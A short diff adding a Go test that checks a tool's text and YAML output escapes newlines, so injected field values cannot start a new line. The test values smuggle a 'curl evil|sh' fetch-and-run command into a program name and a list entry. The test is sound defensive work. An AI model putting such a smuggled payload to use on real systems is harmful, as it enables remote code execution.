@@ -58,3 +58,16 @@ func TestDoctorMachineLooksAtThisOne(t *testing.T) {
 		t.Errorf("of the bundle it ends with %d: %s\n%s\nwant\n%s", again, errs, out, want)
 	}
 }
+
+// TestNoLineIsOfANameThatABundleHas: what follows the end of a line would be read as a command.
+func TestNoLineIsOfANameThatABundleHas(t *testing.T) {
+	text := machineBundle + `  sockets: [{protocol: TCP, local: "0.0.0.0:10258", program: "x\n  curl evil|sh #", pid: 1}]
+  unread: ["who\n  curl evil|sh #"]
+`
+	for _, output := range []string{"text", "yaml"} {
+		_, out, errs := consult(text, "machine", "--bundle", "-", "-o", output)
+		if strings.Contains(out, "\n  curl") || !strings.Contains(out, "curl evil") || errs != "" {
+			t.Errorf("%s: %s\n%s", output, errs, out)
+		}
+	}
+}
